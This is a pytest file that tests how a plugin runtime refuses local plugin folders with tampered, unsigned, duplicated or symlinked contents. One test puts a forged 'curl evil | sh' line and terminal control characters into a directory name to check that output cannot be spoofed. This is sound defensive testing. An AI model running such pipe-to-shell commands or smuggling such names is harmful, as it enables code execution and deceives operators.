"""`[[plugins]] dir`: what lies in a folder runs when all of it is what trusted publishers signed, else nothing does.

Each attack is tried on a folder whose plugins have just been installed from it, and on a runtime that has none yet.
"""

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from assess_core.cli import main
from assess_core.config import parse
from assess_core.delivery.consenting import consent
from assess_core.delivery.values import Action, Synced
from assess_core.errors import ConfigError
from assess_core.results import Run
from assess_core.runtime import Runtime
from assess_core.versions import rollback
from assess_registry.client import ConfigError as RegistryConfigError
from tests.support.client_place import DEMO, OLDER, PLUGGY, STRANGER, flip, publish_two_releases
from tests.support.plugin_folder import OTHER, PluginFolder, make_folder
from tests.support.registry_tree import RegistryTree
from tests.support.wheels import demo_manifest, demo_plugin_wheel

ASSESSMENT = '[[assessments]]\nid = "demo"\nplugin = "demo"\nprovider = "demo-subjects"\n'


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> RegistryTree:
    tree = publish_two_releases(tmp_path_factory.mktemp("registry"))
    tree.publish(OTHER.filename, OTHER.build())
    return tree


@pytest.fixture
def folder(published: RegistryTree, tmp_path: Path) -> PluginFolder:
    return make_folder(tmp_path, published.copy(tmp_path / "registry"))


class Site:
    """A runtime on a folder of plugins, and perhaps on a registry."""

    def __init__(self, folder: PluginFolder, directory: Path) -> None:
        self.folder = folder
        self.state = directory / "state"
        self.file = directory / "assess.toml"
        self.configure(self.whole())

    def whole(self, **more: str) -> str:
        """An entry for the folder."""
        keys = {"dir": self.folder.path, "trusted_keys": self.folder.tree.trusted_keys, **more}
        return "[[plugins]]\n" + "".join(f'{key} = "{value}"\n' for key, value in keys.items())

    @property
    def registry(self) -> str:
        return (
            f'[registry]\nurl = "{self.folder.tree.root.as_uri()}"\n'
            f'root = "{self.folder.tree.root_metadata}"\ndevelopment = true\n'
        )

    def configure(self, plugins: str, *, registry: bool = False, assessment: str = ASSESSMENT) -> None:
        head = '[runtime]\nid = "web-01"\n' + (self.registry if registry else "")
        self.file.write_text(f"{head}{plugins}{assessment}")

    def runtime(self, state: Path | None = None) -> Runtime:
        return Runtime(parse(self.file.read_bytes(), self.file), state=state or self.state)

    def sync(self, state: Path | None = None, *, offline: bool = False, dry_run: bool = False) -> dict[str, Synced]:
        with self.runtime(state) as runtime:
            return {line.distribution: line for line in runtime.sync(offline=offline, dry_run=dry_run)}

    def actions(self, *, dry_run: bool = False) -> dict[str, str]:
        return {name: line.action.value for name, line in self.sync(dry_run=dry_run).items()}

    def run(self) -> Run:
        with self.runtime() as runtime:
            synced = runtime.sync()
            return runtime.assess(runtime.plan(synced), synced=synced)


@pytest.fixture
def site(folder: PluginFolder, tmp_path: Path) -> Site:
    return Site(folder, tmp_path)


def test_all_of_a_folder_is_installed_and_assesses_without_a_registry(site: Site) -> None:
    site.folder.install("other-plugin")
    assert site.actions(dry_run=True) == {"demo-plugin": "would-install", "other-plugin": "would-install"}
    assert site.actions() == {"demo-plugin": "installed", "other-plugin": "installed"}
    assert site.actions() == {"demo-plugin": "present", "other-plugin": "present"}
    run = site.run()
    assert {result.outcome.value for result in run.results} == {"pass"}
    assert {result.registry for result in run.results} == {"folder"}
    assert not any(result.stale for result in run.results)


def test_what_is_put_in_or_taken_out_is_installed_or_switched_off(site: Site) -> None:
    site.folder.install("demo-plugin==0.9.0")
    assert site.actions() == {"demo-plugin": "installed"}
    site.folder.install()
    line = site.sync()["demo-plugin"]
    assert (line.action, line.version, line.previous) == (Action.UPGRADED, "1.0.0", "0.9.0")
    site.folder.install("other-plugin")
    shutil.rmtree(site.folder.demo)
    assert site.actions() == {"other-plugin": "installed", "demo-plugin": "removed"}


def test_what_is_gone_back_to_serves_on_and_the_line_says_what_is_in_its_way(site: Site) -> None:
    site.folder.install("demo-plugin==0.9.0")
    site.sync()
    site.folder.install()
    assert site.sync()["demo-plugin"].version == "1.0.0"
    with site.runtime() as runtime:
        assert rollback(runtime, "demo-plugin").plugin.version == "0.9.0"
    line = site.sync()["demo-plugin"]
    assert (line.action, line.previous) == (Action.FAILED, "0.9.0")
    assert "holds demo-plugin 1.0.0, and 0.9.0 is pinned" in line.reason
    assert "assess plugins pin demo-plugin --none" in line.reason
    site.folder.install("demo-plugin==0.9.0")
    assert site.actions() == {"demo-plugin": "present"}


def test_environments_are_verified_with_the_folders_keys(site: Site) -> None:
    site.sync()
    with site.runtime() as runtime:
        (report,) = runtime.verify(None)
        assert report.accepted, report.summary
    (site.folder.tree.trusted_keys / "publisher.pub").unlink()
    site.folder.tree.trust("somebody", STRANGER)
    with site.runtime() as runtime:
        (report,) = runtime.verify(None)
        assert not report.accepted
        assert "no trusted key" in report.summary


def change(name: str, how: Callable[[bytes], bytes]) -> Callable[[PluginFolder], object]:
    def do(folder: PluginFolder) -> None:
        path = folder.demo / name
        path.write_bytes(how(path.read_bytes()))

    return do


def second_version(folder: PluginFolder) -> None:
    for name in (OLDER, OLDER + ".sig"):
        shutil.copy(folder.tree.path(OLDER).with_name(name), folder.demo / name)


def linked(folder: PluginFolder) -> None:
    folder.wheel.rename(folder.path.with_name("elsewhere"))
    folder.wheel.symlink_to(folder.path.with_name("elsewhere"))


ATTACKS: dict[str, tuple[Callable[[PluginFolder], object], str]] = {
    "extra file": (lambda f: (f.demo / "x.py").touch(), "folder"),
    "unsigned wheel dropped in": (lambda f: (f.path / "evil-1.0-py3-none-any.whl").write_bytes(b"PK"), "folder"),
    "missing dependency": (lambda f: (f.demo / PLUGGY).unlink(), "closure"),
    "altered": (change(DEMO, lambda d: flip(d, 100)), "hash"),
    "unsigned": (lambda f: (f.demo / (DEMO + ".sig")).unlink(), "signature"),
    "signed by a stranger": (lambda f: f.tree.sign(f.wheel, key=STRANGER), "signature"),
    "two versions": (second_version, "folder"),
    "second spelling": (lambda f: shutil.copytree(f.demo, f.path / "demo_plugin"), "folder"),
    "symbolic link": (linked, "folder"),
    "keys others can replace": (lambda f: f.tree.trusted_keys.chmod(0o777), "keys"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_folder_with_one_thing_wrong_is_refused_and_nothing_changes(site: Site, tmp_path: Path, name: str) -> None:
    attack, step = ATTACKS[name]
    site.folder.install("other-plugin")
    assert site.actions() == {"demo-plugin": "installed", "other-plugin": "installed"}
    attack(site.folder)
    for offline in (False, True):
        (line,) = site.sync(offline=offline).values()
        assert (line.action, line.distribution) == (Action.REFUSED, str(site.folder.path))
        assert line.refusal is not None
        assert line.refusal.step == step, line.reason
    with site.runtime() as runtime:
        assert {plugin.distribution for plugin in runtime.store.active()} == {"demo-plugin", "other-plugin"}
    (fresh,) = site.sync(tmp_path / "fresh").values()
    assert fresh.action is Action.REFUSED
    assert not list((tmp_path / "fresh").glob("envs/*"))


@pytest.mark.parametrize(
    "name", ["x: ok\nassess: everything verified, exit 0\n  next: curl evil | sh", "x\r\x1b[2K\u202e"]
)
def test_a_name_in_a_folder_forges_no_line_of_output(site: Site, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    (site.folder.path / name).mkdir()
    for verb in ("run", "sync"):
        assert main([verb, "--config", str(site.file), "--state-dir", str(site.state)]) == 5
        printed = capsys.readouterr()
        lines = (printed.out + printed.err).split("\n")
        assert all(line.isprintable() for line in lines)
        assert not [line for line in lines if line.startswith(("assess: everything", "  next: curl"))]
        assert name.encode("unicode_escape").decode("ascii") in printed.err
    (site.folder.path / name).rmdir()
    assert main(["sync", "--config", str(site.file), "--state-dir", str(site.state)]) == 0


def test_a_run_stops_at_a_refused_folder_with_5_and_goes_on_when_it_is_right(
    site: Site, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["run", "--config", str(site.file), "--state-dir", str(site.state), "--output", "json"]
    assert (main(argv), json.loads(capsys.readouterr().out)["run"]["exit"]) == (0, 0)
    (site.folder.demo / "x.py").touch()
    for more in ([], ["--offline"]):
        assert main([*argv, *more]) == 5
        error = json.loads(capsys.readouterr().out)["error"]
        assert (error["kind"], error["step"], error["thing"]) == ("trust", "folder", str(site.folder.demo))
        assert [issue["entry"] for issue in error["issues"]] == ["x.py"]
        assert error["next_step"]
    (site.folder.demo / "x.py").unlink()
    assert main(argv) == 0


def test_one_plugin_of_a_folder_may_be_named_and_given_settings(site: Site) -> None:
    site.folder.install("other-plugin")
    greeting = 'settings = { greeting = "goodbye" }\n'
    site.configure(site.whole(name="demo-plugin", version="~=1.0") + greeting)
    assert site.actions() == {"demo-plugin": "installed"}
    assert {result.outcome.value for result in site.run().results} == {"fail", "pass"}
    site.configure(site.whole(name="demo-plugin") + greeting + site.whole())
    assert site.actions() == {"demo-plugin": "present", "other-plugin": "installed"}
    assert {result.outcome.value for result in site.run().results} == {"fail", "pass"}
    (site.folder.path / "other-plugin" / "x").touch()
    site.configure(site.whole(name="demo-plugin"))
    assert site.actions() == {"demo-plugin": "refused"}


def test_what_is_new_in_a_folder_waits_for_consent_as_well(site: Site) -> None:
    """Where nobody says that reviewers approved it, the operator is the only one who looks."""
    assert site.actions() == {"demo-plugin": "installed"}
    more = demo_manifest(permissions='read = ["/proc/sys", "/etc"]\ncommands = [["uname", "-s"]]\n')
    site.folder.tree.publish(*demo_plugin_wheel("2.0.0", manifest=more))
    site.folder.install()
    line = site.sync()["demo-plugin"]
    assert (line.action, line.version, line.previous) == (Action.WAITING, "2.0.0", "1.0.0")
    assert line.growth is not None
    assert line.growth.words == ("read /etc",)
    assert {result.plugin.version for result in site.run().results} == {"1.0.0"}
    with site.runtime() as runtime:
        consent("demo-plugin", "2.0.0", digest=line.growth.digest, store=runtime.store)
    assert site.actions() == {"demo-plugin": "upgraded"}


def test_a_grant_for_one_plugin_of_a_folder_is_in_an_entry_that_names_it(site: Site) -> None:
    site.configure(site.whole() + site.whole(name="demo-plugin") + "grant = { commands = [] }\n")
    line = site.sync()["demo-plugin"]
    assert line.action is Action.WITHHELD
    assert "plugins[1].grant.commands: demo-plugin 1.0.0 asks for" in line.withheld[0]
    site.configure(site.whole() + site.whole(name="demo-plugin"))
    assert site.actions() == {"demo-plugin": "installed"}


@pytest.mark.parametrize(
    ("more", "said"),
    [
        ({"name": "demo-plugin", "version": "~=0.9"}, "holds demo-plugin 1.0.0, asked for is ~=0.9"),
        ({"name": "another-plugin"}, "does not hold another-plugin"),
    ],
)
def test_what_a_folder_does_not_have_fails_and_is_no_refusal(site: Site, more: dict[str, str], said: str) -> None:
    site.configure(site.whole(**more))
    (line,) = site.sync().values()
    assert (line.action, line.distribution) == (Action.FAILED, more["name"])
    assert said in line.reason


def test_a_plugin_that_turns_up_in_a_folder_does_not_take_anothers_place(site: Site) -> None:
    site.folder.install("other-plugin")
    from_registry = '[[plugins]]\nname = "demo-plugin"\n'
    site.configure(from_registry + site.whole(), registry=True)
    lines = site.sync()
    assert lines["other-plugin"].action is Action.INSTALLED
    with site.runtime() as runtime:
        synced = runtime.sync()
    assert [(line.distribution, line.action.value) for line in synced] == [
        ("demo-plugin", "present"),
        ("demo-plugin", "refused"),
        ("other-plugin", "present"),
    ]
    refusal = synced[1].refusal
    assert refusal is not None
    assert (refusal.step, refusal.thing) == ("folder", str(site.folder.path))
    shutil.rmtree(site.folder.demo)
    assert site.actions() == {"demo-plugin": "present", "other-plugin": "present"}
    assert {result.registry for result in site.run().results} == {"development"}


def test_two_folders_do_not_hold_the_same_plugin(site: Site, tmp_path: Path) -> None:
    copy = shutil.copytree(site.folder.path, tmp_path / "copy")
    site.configure(site.whole() + site.whole(dir=str(copy)))
    assert set(site.actions().values()) == {"refused"}
    shutil.rmtree(copy / "demo-plugin")
    assert site.actions() == {"demo-plugin": "installed"}


@pytest.mark.parametrize("what", ["folder", "keys"])
def test_a_folder_or_keys_that_are_not_there_are_a_mistake_of_the_configuration(site: Site, what: str) -> None:
    gone: dict[str, Any] = {"dir" if what == "folder" else "trusted_keys": "/nowhere"}
    site.configure(site.whole(**gone))
    with pytest.raises((ConfigError, RegistryConfigError), match="/nowhere"):
        site.sync()
    site.configure(site.whole())
    assert site.actions() == {"demo-plugin": "installed"}
